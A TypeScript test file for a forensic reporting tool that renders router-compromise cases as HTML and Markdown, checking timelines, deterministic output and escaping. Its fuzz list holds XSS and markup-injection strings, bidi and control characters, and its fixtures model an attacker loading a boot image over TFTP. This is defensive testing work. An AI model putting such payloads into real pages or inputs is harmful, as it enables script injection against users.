import assert from "node:assert/strict";
import { test } from "node:test";
import fc from "fast-check";
import { type Activity, activities } from "#schema";
import { caseOf } from "../cases/fold.ts";
import type { CaseEvent, CaseRecord } from "../cases/record.ts";
import { judge } from "../decision/judge.ts";
import type { CaseFinding, DeviceActivity } from "../enquiry.ts";
import { askAll } from "../questions/index.ts";
import { renderCaseHtml, renderCaseMarkdown } from "./index.ts";
import { timelineOf } from "./timeline.ts";

const at = (clock: string) => `2026-03-12T${clock}.0000000Z`;

function activityAt(
  clock: string,
  activity: Activity,
  others: Partial<DeviceActivity> = {},
): DeviceActivity {
  return {
    ...{
      time: at(clock),
      received: at(clock),
      clockTrust: "synced",
      device: "r1",
      deviceIp: "",
      activity,
    },
    ...{
      channel: "Syslog",
      actor: "contr02",
      actorIp: "203.0.113.77",
      command: "",
      transferProtocol: "",
    },
    ...{
      transferHost: "",
      transferDirection: "",
      imageName: "",
      imagePath: "",
      imageFlags: "",
      version: "",
    },
    ...{
      previousVersion: "",
      configRegister: "",
      reason: "",
      mnemonic: "",
      message: "",
      file: "logs/r1.log",
      line: 1,
    },
    ...others,
  };
}

function findingAt(clock: string, others: Partial<CaseFinding> = {}): CaseFinding {
  return {
    ...{
      id: `f-${clock}`,
      origin: "rule",
      title: "Image changed",
      rule: "x",
      techniques: ["T1601"],
    },
    ...{ severity: "high", time: at(clock), device: "r1", message: "", evidenceCount: 1 },
    evidence: [{ file: "logs/r1.log", line: 7, raw: "%SYS-5-RELOAD: Reload requested" }],
    ...others,
  };
}

function caseWith(findings: readonly CaseFinding[], activities: readonly DeviceActivity[]) {
  const context = {
    files: [],
    digest: "",
    windows: [],
    versions: [],
    servers: [],
    accounts: [],
    hashes: [],
    devices: [],
  };
  const device = { name: "r1", names: ["r1", "192.0.2.1"] };
  const answers = askAll({ device, findings, activities, context });
  const events: readonly CaseEvent[] = [
    { kind: "opened", device: "r1", names: device.names, title: "Image changed", tasks: [] },
    { kind: "findings joined", findings, activities, because: "the first of the device" },
    {
      ...{ kind: "judged", answers, judgement: judge(answers, "high"), context: "" },
      windows: [
        {
          id: "w1",
          title: "Sundays",
          owner: "netops",
          from: at("02:00:00"),
          until: at("02:40:00"),
        },
      ],
    },
  ];
  return caseOf(
    events.map(
      (event, index): CaseRecord => ({
        sequence: index + 1,
        case: "BW-1",
        at: at("04:00:00"),
        by: "bootwarden",
        event,
      }),
    ),
  );
}

const settings = { madeAt: at("05:00:00") };

const story = [
  activityAt("02:31:00", "LoginSucceeded"),
  activityAt("02:38:31", "ImageCopied", { command: "copy tftp://203.0.113.80/x.bin flash0:" }),
  activityAt("02:46:17", "BootVariableChanged", { command: "boot system tftp x.bin 203.0.113.80" }),
  activityAt("02:49:05", "ReloadRequested"),
  activityAt("02:56:02", "Restarted", {
    version: "15.7(3)M2",
    received: at("02:57:10"),
    clockTrust: "unset",
  }),
  activityAt("03:20:00", "LoggingStopped", { reason: "source stopped" }),
];

test("every activity has a lane, and marks are numbered in the order of time", () => {
  const all = activities.map((activity, index) =>
    activityAt(`02:${String(index + 10)}:00`, activity),
  );
  const timeline = timelineOf(caseWith([findingAt("02:20:30")], all));
  assert.equal(timeline?.marks.length, all.length + 1);
  const marks = timeline?.marks ?? [];
  assert.deepEqual(
    marks.map(({ number }) => number),
    marks.map((_, index) => index + 1),
  );
  assert.ok(
    marks.every((mark, index) => index === 0 || (marks[index - 1]?.ticks ?? 0n) <= mark.ticks),
  );
});

test("windows, a restart and a silence are bands; what lies far from the findings is counted, not drawn", () => {
  const far = activityAt("23:00:00", "LoginSucceeded");
  const timeline = timelineOf(caseWith([findingAt("02:56:02")], [...story, far]));
  assert.deepEqual(
    timeline?.bands.map(({ kind }) => kind),
    ["window", "down", "silence"],
  );
  assert.equal(timeline?.leftOut, 1);
  const [window, down] = timeline?.bands ?? [];
  assert.equal(window?.fromTicks, timeline?.fromTicks, "a window is cut at the picture's edge");
  assert.equal((down?.untilTicks ?? 0n) - (down?.fromTicks ?? 0n), 417n * 10_000_000n);
});

test("a case without any time has no picture, and still a page", () => {
  const one = caseWith([findingAt("02:00:00", { time: "" })], []);
  assert.equal(timelineOf(one), undefined);
  assert.match(renderCaseHtml([one], settings), /<h1>Case BW-1: r1<\/h1>/);
});

test("the same case gives the same bytes", () => {
  const one = caseWith([findingAt("02:56:02")], story);
  assert.equal(renderCaseHtml([one], settings), renderCaseHtml([one], settings));
  assert.equal(renderCaseMarkdown(one, settings), renderCaseMarkdown(one, settings));
});

test("the page names its verdict, all ten questions, the lines and the history", () => {
  const html = renderCaseHtml([caseWith([findingAt("02:56:02")], story)], settings);
  assert.match(html, /class="headline">(?:ESCALATE|REVIEW)/);
  assert.equal(html.match(/<td class="(?:good|open|bad)">(?:yes|no|unknown)<\/td>/g)?.length, 10);
  assert.match(html, /logs\/r1\.log:7 {2}%SYS-5-RELOAD/);
  assert.match(html, /<td>judged /);
});

/** What an attacker may put into any field of a log. */
const hostile = fc.oneof(
  fc.constantFrom(
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "](javascript:alert(1))",
    "`x`",
    "a|b\n# c",
  ),
  fc.constantFrom(
    "\u202egnp.exe",
    "\u001b[31m",
    "</title><svg onload=x>",
    "&lt;b&gt;",
    "'--",
    "```\n<b>",
    "<!--",
    "\u0000",
  ),
  fc.string({ unit: "binary" }),
);

/** Tags of a page, without what stands in the text between them. */
function tagsOf(html: string): readonly string[] {
  return html.match(/<[!/]?[a-z][^\s>]*/gi) ?? [];
}

test("no text of a log becomes markup of the page", () => {
  const plain = new Set(
    tagsOf(renderCaseHtml([caseWith([findingAt("02:56:02")], story)], settings)),
  );
  fc.assert(
    fc.property(hostile, (text) => {
      const finding = findingAt("02:56:02", {
        ...{ title: text, message: text, device: text, techniques: [text] },
        evidence: [{ file: text, line: 1, raw: text }],
      });
      const told = story.map((one) => ({
        ...one,
        actor: text,
        command: text,
        version: text,
        reason: text,
        file: text,
      }));
      const html = renderCaseHtml([caseWith([finding], told)], settings);
      for (const tag of tagsOf(html)) assert.ok(plain.has(tag), tag);
      assert.doesNotMatch(html, /[\u202a-\u202e\u2066-\u2069\u0000-\u0008\u000b-\u001f]/);
    }),
  );
});

test("no text of a log becomes a heading, a link, markup or a column of the Markdown", () => {
  fc.assert(
    fc.property(hostile, (text) => {
      const finding = findingAt("02:56:02", { title: text, message: text, evidence: [] });
      const markdown = renderCaseMarkdown(caseWith([finding], []), settings);
      const headings = markdown.split("\n").filter((line) => /^ {0,3}#/.test(line));
      assert.deepEqual(
        headings.slice(1),
        [
          "## Why\n",
          "## Device\n",
          "## Timeline\n",
          "## Findings\n",
          "## Evidence of the device\n",
          "## History\n",
        ].map((one) => one.trim()),
      );
      assert.doesNotMatch(markdown, /(?<!\\)[<>]|(?<!\\)\]\(/);
    }),
  );
});
